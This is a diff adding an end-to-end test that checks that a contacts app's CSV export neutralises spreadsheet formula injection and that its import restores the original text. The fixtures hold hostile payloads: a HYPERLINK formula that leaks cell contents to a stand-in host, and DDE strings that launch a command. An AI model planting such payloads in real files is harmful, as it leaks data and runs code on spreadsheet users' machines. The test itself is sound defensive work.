@@ -109,6 +109,33 @@ describe('contacts bulk actions, CSV import and export (e2e)', () => {
     expect(after.map((c: ContactView) => c.nextFollowUpAt)).toEqual(['2031-03-04T15:30:00.000Z', null, null]);
   });
 
+  it('should quote every cell a spreadsheet would run as a formula, even one that starts like a number', async () => {
+    const s = await signup(t.app);
+    const attacks = {
+      name: '+1+HYPERLINK("https://evil.example/?leak="&A1,"Click")',
+      company: "-2+3+cmd|' /C calc'!A0",
+      notes: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+    };
+    await create(s, { phone: '2125550001', ...attacks, leadStatus: 'qualified', dealValueCents: 123456, tags: ['=1+1', '-5'] });
+    await create(s, { phone: '+44 20 7946 0958', name: '=HYPERLINK("https://evil.example")', company: '-12.5', notes: '+14155550100' });
+    const res = await http().get(url(s, '/export')).query({ sort: 'phone' }).set(bearer(s.accessToken)).expect(200);
+    const [, first, second] = parseCsv(res.text);
+    // Each formula-like cell starts with a quote: text to a spreadsheet, undone by the import.
+    expect(first!.slice(0, 8)).toEqual(['+12125550001', `'${attacks.name}`, '', `'${attacks.company}`, `'${attacks.notes}`, 'qualified', '1234.56', "'=1+1; -5"]);
+    // Only a cell that is wholly a phone number or a number stays as it is.
+    expect(second!.slice(0, 5)).toEqual(['+442079460958', `'=HYPERLINK("https://evil.example")`, '', '-12.5', '+14155550100']);
+
+    // The import takes the quote off again: the round trip keeps the text.
+    const target = await signup(t.app);
+    const rows = [first!, second!].map((f, i) => ({ row: i + 2, phone: f[0]!, name: f[1]!, email: f[2]!, company: f[3]!, notes: f[4]!, leadStatus: f[5]!, dealValue: f[6]!, tags: f[7]!, nextFollowUpAt: f[8]! }));
+    await http().post(url(target, '/import')).set(bearer(target.accessToken)).send({ rows }).expect(200);
+    const imported = (await http().get(url(target)).query({ sort: 'phone' }).set(bearer(target.accessToken))).body.items as ContactView[];
+    expect(imported.map((c) => [c.name, c.company, c.notes])).toEqual([
+      [attacks.name, attacks.company, attacks.notes],
+      ['=HYPERLINK("https://evil.example")', '-12.5', '+14155550100'],
+    ]);
+  });
+
   it('should export only the current filter: search, tag, lead status, in the list\'s sort', async () => {
     const s = await signup(t.app);
     await create(s, { phone: '2125550001', name: 'carla Acme', email: 'carla@acme.test', leadStatus: 'qualified', tags: ['VIP'] });
